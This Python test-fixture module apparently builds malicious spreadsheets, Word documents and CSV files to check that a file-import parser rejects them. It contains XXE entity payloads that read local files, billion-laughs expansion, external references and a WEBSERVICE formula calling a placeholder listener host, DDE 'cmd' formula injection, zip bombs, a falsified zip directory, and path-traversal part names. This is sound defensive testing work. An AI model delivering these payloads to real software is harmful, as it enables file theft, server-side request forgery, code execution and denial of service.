"""Workbooks and documents that mean harm, made by hand, part by part."""

import io
import struct
import warnings
import zipfile
import zlib

from .bad_texts import EITHER, LOL, REFUSED, Bad

TYPES = "http://schemas.openxmlformats.org/package/2006/content-types"
LINKS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
SHEET = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
HEAD = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
CSV_HEAD = "Title [en],Status,City\n"


def _types(main, media_type):
    return (
        f'{HEAD}<Types xmlns="{TYPES}"><Default Extension="rels" ContentType='
        '"application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" '
        f'ContentType="application/xml"/><Override PartName="/{main}" ContentType="{media_type}"/>'
        '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.'
        'openxmlformats-officedocument.spreadsheetml.worksheet+xml"/><Override PartName='
        '"/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.'
        'spreadsheetml.sharedStrings+xml"/></Types>'
    )


def _links(*targets):
    inner = "".join(
        f'<Relationship Id="r{n}" Type="{OFFICE}/{kind}" Target="{target}"{mode}/>'
        for n, (kind, target, mode) in enumerate(targets, 1)
    )
    return f'{HEAD}<Relationships xmlns="{LINKS}">{inner}</Relationships>'


EXTERNAL = ' TargetMode="External"'


def row(number, *cells):
    inner = "".join(
        f'<c r="{column}{number}" t="inlineStr"><is><t>{text}</t></is></c>'
        for column, text in zip("ABCDEFG", cells, strict=False)
    )
    return f'<row r="{number}">{inner}</row>'


ROWS = row(1, "Title [en]", "Status", "City") + row(2, "Reading together", "Ongoing", "Bergen")


def sheet(rows=ROWS, head=HEAD, extra=""):
    return f'{head}<worksheet xmlns="{SHEET}"><sheetData>{rows}</sheetData>{extra}</worksheet>'


def workbook(parts=None, links=(), head=HEAD):
    return {
        "[Content_Types].xml": _types(
            "xl/workbook.xml",
            "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
        ),
        "_rels/.rels": _links(("officeDocument", "xl/workbook.xml", "")),
        "xl/workbook.xml": f'{head}<workbook xmlns="{SHEET}" xmlns:r="{OFFICE}"><sheets>'
        '<sheet name="Practices" sheetId="1" r:id="r1"/></sheets></workbook>',
        "xl/_rels/workbook.xml.rels": _links(
            ("worksheet", "worksheets/sheet1.xml", ""),
            ("sharedStrings", "sharedStrings.xml", ""),
            *links,
        ),
        "xl/sharedStrings.xml": f'{HEAD}<sst xmlns="{SHEET}"/>',
        "xl/worksheets/sheet1.xml": sheet(),
    } | (parts or {})


def paragraph(text, style=""):
    properties = f'<w:pPr><w:pStyle w:val="{style}"/></w:pPr>' if style else ""
    return f"<w:p>{properties}<w:r><w:t>{text}</w:t></w:r></w:p>"


BODY = (
    paragraph("Title", "Heading2")
    + paragraph("Reading together")
    + paragraph("City", "Heading2")
    + paragraph("Bergen")
)


def document(body=BODY, parts=None, links=(), head=HEAD):
    return {
        "[Content_Types].xml": _types(
            "word/document.xml",
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        ),
        "_rels/.rels": _links(("officeDocument", "word/document.xml", "")),
        "word/_rels/document.xml.rels": _links(*links),
        "word/document.xml": f'{head}<w:document xmlns:w="{WORD}" xmlns:r="{OFFICE}"><w:body>'
        f"{body}</w:body></w:document>",
    } | (parts or {})


def zipped(parts):
    """An archive of parts; a number stands for so many zeros."""
    buffer = io.BytesIO()
    pairs = parts.items() if isinstance(parts, dict) else parts
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive, warnings.catch_warnings():
        warnings.simplefilter("ignore", UserWarning)
        for name, content in pairs:
            if isinstance(content, int):
                with archive.open(name, "w") as part:
                    for _ in range(content >> 20):
                        part.write(b"\0" * (1 << 20))
            else:
                archive.writestr(name, content)
    return buffer.getvalue()


def xlsx(parts, answer=REFUSED):
    return Bad("xlsx", parts, answer)


def docx(parts, answer=REFUSED):
    return Bad("docx", parts, answer)


def _lying(size=100 << 20):
    """An archive whose directory says that a part is small, and it is not."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = b"\0" * (1 << 20)
    packed = b"".join(packer.compress(block) for _ in range(size >> 20)) + packer.flush()
    name = b"xl/workbook.xml"
    local = struct.pack(
        "<4sHHHHHIIIHH", b"PK\3\4", 20, 0, 8, 0, 0, 0, len(packed), 100, len(name), 0
    )
    central = struct.pack(
        "<4sHHHHHHIIIHHHHHII",
        *(b"PK\1\2", 20, 20, 0, 8, 0, 0, 0, len(packed), 100, len(name), 0, 0, 0, 0, 0, 0),
    )
    start = len(local) + len(name) + len(packed)
    end = struct.pack("<4sHHHHIIH", b"PK\5\6", 0, 0, 1, 1, len(central) + len(name), start, 0)
    return local + name + packed + central + name + end


ENTITY = f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY x SYSTEM "file://{{file}}">{LOL}]>'
ELSEWHERE = '<?xml version="1.0"?><!DOCTYPE x SYSTEM "{listener}">'
MILLION = "<row><c><v>1</v></c></row>" * 1_000_000
STRINGS = f'<sst xmlns="{SHEET}"><si><t>&l9;&x;</t></si></sst>'
WORKBOOKS = {
    "entities in shared strings": xlsx(workbook({"xl/sharedStrings.xml": ENTITY + STRINGS})),
    "entities in a sheet": xlsx(workbook({"xl/worksheets/sheet1.xml": sheet(head=ENTITY)})),
    "a doctype elsewhere": xlsx(workbook(head=ELSEWHERE)),
    "a doctype in UTF-16": xlsx(
        workbook({"xl/workbook.xml": workbook(head=ELSEWHERE)["xl/workbook.xml"].encode("utf-16")})
    ),
    "a doctype in the types": xlsx(
        workbook(
            {"[Content_Types].xml": ELSEWHERE + _types("xl/workbook.xml", "x/y").removeprefix(HEAD)}
        )
    ),
    "a million rows": xlsx(workbook({"xl/worksheets/sheet1.xml": sheet(ROWS + MILLION)})),
    "a last row far away": xlsx(
        workbook({"xl/worksheets/sheet1.xml": sheet(ROWS + row(1_048_576, "x", "y", "z"))}), EITHER
    ),
    "a last column far away": xlsx(
        workbook(
            {
                "xl/worksheets/sheet1.xml": sheet(
                    ROWS + '<row r="3"><c r="XFD3" t="inlineStr"><is><t>x</t></is></c></row>'
                )
            }
        ),
        EITHER,
    ),
    "cells beyond the sheet": xlsx(
        workbook(
            {
                "xl/worksheets/sheet1.xml": sheet(
                    '<row r="99999999999"><c r="ZZZZZZ9999999999"/></row>'
                )
            }
        )
    ),
    "a part of zeros": xlsx(workbook({"xl/media/image1.png": 100 << 20})),
    "a part that is larger than it says": Bad("xlsx", _lying()),
    "many parts": xlsx(workbook({f"xl/media/{n}.png": b"" for n in range(20_000)})),
    "links to other workbooks": xlsx(
        workbook(
            {
                "xl/externalLinks/externalLink1.xml": f'{HEAD}<externalLink xmlns="{SHEET}" '
                f'xmlns:r="{OFFICE}"><externalBook r:id="r1"/></externalLink>',
                "xl/externalLinks/_rels/externalLink1.xml.rels": _links(
                    ("externalLinkPath", "{listener}", EXTERNAL)
                ),
            },
            links=(("externalLink", "externalLinks/externalLink1.xml", ""),),
        ),
        EITHER,
    ),
    "a sheet elsewhere": xlsx(
        workbook({"xl/_rels/workbook.xml.rels": _links(("worksheet", "{listener}", EXTERNAL))})
    ),
    "a sheet outside of the archive": xlsx(
        workbook({"xl/_rels/workbook.xml.rels": _links(("worksheet", "../../../../{file}", ""))})
    ),
    "formulas that fetch": xlsx(
        workbook(
            {
                "xl/worksheets/sheet1.xml": sheet(
                    row(1, "Title [en]", "Status", "City")
                    + '<row r="2"><c r="A2"><f>WEBSERVICE("{listener}")</f></c><c r="B2" t="str">'
                    "<f>cmd|' /C calc'!A0</f><v>=1+1</v></c></row>",
                )
            }
        ),
        EITHER,
    ),
    "a program beside the sheets": xlsx(
        workbook({"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0" * 100}), EITHER
    ),
    "names of parts that lead elsewhere": xlsx(
        workbook({"../../../../{evil}": b"x", "{evil}": b"x", "..\\..\\evil.txt": b"x"}), EITHER
    ),
    "two parts of one name": xlsx((*workbook().items(), ("xl/workbook.xml", "<a/>"))),
    "a damaged archive": Bad("xlsx", zipped(workbook())[:-200]),
    "an archive within bytes": Bad("xlsx", b"MZ" * 500 + zipped(workbook()), EITHER),
    "no archive": Bad("xlsx", b"PK\3\4" + b"\xff" * 5_000),
    "Office 97": Bad("xlsx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 5_000),
    "a document as a workbook": Bad("xlsx", zipped(document())),
    "elements nested deeply": xlsx(
        workbook({"xl/worksheets/sheet1.xml": sheet("<a>" * 100_000 + "</a>" * 100_000)}), EITHER
    ),
    "a giant number": xlsx(
        workbook(
            {
                "xl/worksheets/sheet1.xml": sheet(
                    row(1, "Title [en]", "Status", "City")
                    + f'<row r="2"><c r="A2"><v>1e999999</v></c><c r="B2" t="d">'
                    f"<v>{'9' * 9_000}</v></c>"
                    '<c r="C2" t="s"><v>999999999</v></c></row>'
                )
            }
        ),
        EITHER,
    ),
}
DOCUMENTS = {
    "entities in a document": docx(document(paragraph("&l9;&x;"), head=ENTITY)),
    "a doctype elsewhere in a document": docx(document(head=ELSEWHERE)),
    "entities in the styles": docx(
        document(
            parts={"word/styles.xml": f'{ENTITY}<w:styles xmlns:w="{WORD}">&l9;</w:styles>'},
            links=(("styles", "styles.xml", ""),),
        )
    ),
    "a template elsewhere": docx(
        document(
            parts={
                "word/settings.xml": f'{HEAD}<w:settings xmlns:w="{WORD}" xmlns:r="{OFFICE}">'
                '<w:attachedTemplate r:id="r1"/></w:settings>',
                "word/_rels/settings.xml.rels": _links(
                    ("attachedTemplate", "{listener}", EXTERNAL)
                ),
            },
            links=(("settings", "settings.xml", ""),),
        ),
        EITHER,
    ),
    "pictures and frames elsewhere": docx(
        document(links=(("image", "{listener}", EXTERNAL), ("frame", "{listener}", EXTERNAL))),
        EITHER,
    ),
    "a field that fetches": docx(
        document(BODY + '<w:p><w:fldSimple w:instr="INCLUDETEXT {file}"/></w:p>'), EITHER
    ),
    "a document's parts elsewhere": docx(
        document(parts={"../../{evil}": b"x"}, links=(("styles", "../../../{file}", ""),)), EITHER
    ),
    "tables nested deeply": docx(
        document("<w:tbl><w:tr><w:tc>" * 5_000 + "</w:tc></w:tr></w:tbl>" * 5_000), EITHER
    ),
    "many paragraphs": docx(document(BODY + "<w:p/>" * 200_000)),
    "a document of zeros": docx(document(parts={"word/media/x.png": 100 << 20})),
    "macros in a document": docx(
        document(
            parts={"word/vbaProject.bin": b"x"}, links=(("vbaProject", "vbaProject.bin", ""),)
        ),
        EITHER,
    ),
}
TABLES = {
    "many rows": Bad("csv", CSV_HEAD + "x,y,z\n" * 60_000),
    "many columns": Bad("csv", ",".join(["Title [en]"] + ["x"] * 500_000) + "\n", EITHER),
    "a cell without end": Bad("csv", f'{CSV_HEAD}"{"x" * 3_000_000}",Ongoing,Bergen\n', EITHER),
    "a quote left open": Bad("csv", CSV_HEAD + '"' + "x,\n" * 300_000, EITHER),
    "quotes and nothing else": Bad("csv", CSV_HEAD + '"' * 1_000_000, EITHER),
    "zeros in a table": Bad("csv", CSV_HEAD.encode() + b"\0" * 5_000, EITHER),
    "formulas in a table": Bad("csv", CSV_HEAD + "=cmd|' /C calc'!A0,@SUM(1),+1\n", EITHER),
    "a table that is a path": Bad("csv", "{file}\n"),
    "a table of bytes": Bad("csv", bytes(range(256)) * 40),
}
BINARY = WORKBOOKS | DOCUMENTS | TABLES
